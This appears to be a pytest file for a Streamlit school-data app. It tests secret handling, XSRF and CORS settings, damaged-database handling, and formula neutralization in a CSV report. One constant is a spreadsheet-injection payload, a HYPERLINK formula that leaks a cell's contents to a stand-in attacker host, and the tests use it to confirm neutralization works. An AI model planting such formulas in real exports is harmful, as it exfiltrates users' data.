"""The app and its secrets, its deployment settings, its store, and the CSV it offers besides the CERS file.

- No page ever sends the browser the client secret or an access token, also when a load fails,
  and no cache key in a session holds them.
- ``.streamlit/config.toml`` keeps XSRF protection and CORS checks on.
- A damaged database file is explained, never a crash, and left as it was.
- The problem report download neutralizes spreadsheet formulas (OWASP), cell by cell.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from cers_core.report_csv import neutralize, problem_report_csv
from cers_core.store import DB_FILE_NAME
from cers_demo import DemoDistrict, DemoServer
from cers_demo.faults import FaultRule, Faults
from tests.support import DEMO_REFERENCE_DATE
from tests.support.app import choose_school, open_section_groups, save_connection

ROOT = Path(__file__).resolve().parents[2]
SECTION_GROUPS = "pages/3_Section_Groups.py"
PAGES = ["app.py", "pages/1_Applications.py", "pages/2_CERS_Connections.py", SECTION_GROUPS]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

pytestmark = pytest.mark.usefixtures("no_demo", "quick_retries")


def open_school(name: str) -> AppTest:
    at = open_section_groups()
    assert not at.exception, at.exception
    return choose_school(at, name, DEMO_REFERENCE_DATE)


def rendered(node: Any) -> Iterator[bytes]:
    """Every element the page sends the browser, as the bytes of its protobuf message."""
    proto = getattr(node, "proto", None)
    if proto is not None:
        yield proto.SerializeToString()
    for child in getattr(node, "children", {}).values():
        yield from rendered(child)


def keys_within(value: Any, depth: int = 0) -> Iterator[Any]:
    """Every mapping key inside a session's state (dicts, dataclasses, lists), a few levels deep."""
    if depth > 4:
        return
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from keys_within(item, depth + 1)
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for item in dataclasses.fields(value):
            yield from keys_within(getattr(value, item.name), depth + 1)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from keys_within(item, depth + 1)


def school_of_user(district: DemoDistrict, user: str) -> str:
    org = district.users.filter(pl.col("sourcedId") == user)["roles.org.sourcedId"][0][0]
    return str(district.orgs.filter(pl.col("sourcedId") == org)["name"][0])


# -- secrets ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "faults",
    [Faults(), Faults(rules=(FaultRule(kind="500", target="/users", times=None),))],
    ids=["a school loaded", "a load that fails"],
)
def test_no_page_and_no_cache_key_holds_the_secret_or_a_token(data_dir, make_demo_server, demo_district, faults):
    server = make_demo_server(faults=faults)
    save_connection(data_dir, server)
    at = open_school(school_of_user(demo_district, demo_district.cases.student_without_ssid))
    assert not at.exception
    assert any("HTTP 500" in error.value for error in at.error) == bool(faults.rules)
    hidden = [server.client_secret, *server.issued_tokens]
    assert len(hidden) > 1  # tokens were issued, so the search below means something
    seen = [b"".join(rendered(at._tree))]
    for page in PAGES:
        seen.append(b"".join(rendered(at.switch_page(page).run()._tree)))
    for secret in hidden:
        assert not any(secret.encode() in page for page in seen)
    keys = [repr(key) for name in at.session_state for key in [name, *keys_within(at.session_state[name])]]
    assert any("District" in key or "(" in key for key in keys)  # the session's caches were walked
    for secret in hidden:
        assert not any(secret in key for key in keys)


# -- deployment settings and the store ---------------------------------------------------------------


def test_the_deployment_config_keeps_xsrf_and_cors_checks_on():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["enableXsrfProtection"] is True
    assert config["server"]["enableCORS"] is True
    assert config["browser"]["gatherUsageStats"] is False
    assert config["client"]["showErrorDetails"] == "none"


@pytest.mark.parametrize(
    "content",
    [b"not a database" * 200, b"SQLite format 3\x00" + b"\xff" * 4000],
    ids=["garbage", "damaged header"],
)
def test_a_damaged_database_is_explained_on_every_page_and_left_alone(data_dir: Path, content: bytes):
    data_dir.mkdir(parents=True)
    (data_dir / DB_FILE_NAME).write_bytes(content)
    for page in PAGES:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
        if page != "app.py":
            at = at.switch_page(page).run()
        assert not at.exception
        [error] = at.error
        assert "cannot be read" in error.value and str(data_dir) in error.value
    assert (data_dir / DB_FILE_NAME).read_bytes() == content


# -- the problem report CSV ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+15551234", "'+15551234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Algebra I - Nguyen - 3", "Algebra I - Nguyen - 3"),
        ("O'Brien", "O'Brien"),
        (None, ""),
        (42, "42"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralized(value, cell):
    assert neutralize(value) == cell


def test_the_problem_report_csv_is_quoted_utf8_with_bom_and_crlf():
    report = pl.DataFrame({"Person": [FORMULA, 'Ana "Ani" Díaz'], "Problem": ["-x", "fine, really"]})
    data = problem_report_csv(report)
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["Person", "Problem"], ["'" + FORMULA, "'-x"], ['Ana "Ani" Díaz', "fine, really"]]
    assert data.decode("utf-8-sig").split("\r\n")[1].startswith('"\'=HYPERLINK(""http')


def test_the_app_offers_the_problem_report_with_formulas_neutralized(data_dir, demo_district, downloads):
    """A student whose name is a formula, left out for want of an SSID: in the report, as text."""
    case = demo_district.cases.student_without_ssid
    users = demo_district.users.with_columns(
        givenName=pl.when(pl.col("sourcedId") == case).then(pl.lit(FORMULA)).otherwise("givenName"),
        familyName=pl.when(pl.col("sourcedId") == case).then(pl.lit("+Sum")).otherwise("familyName"),
    )
    with DemoServer(dataclasses.replace(demo_district, users=users)) as server:
        save_connection(data_dir, server)
        at = open_school(school_of_user(demo_district, case))
    assert not at.exception
    button = at.download_button(key="school_problems_download")
    assert not button.proto.disabled and button.proto.label == "Download the problem report (CSV)"
    data = downloads(button)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["Severity", "Problem", "Group"]
    people = {cell for row in rows for cell in row if "HYPERLINK" in cell}
    assert people == {f"'{FORMULA} +Sum"}  # in every row that names the student
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
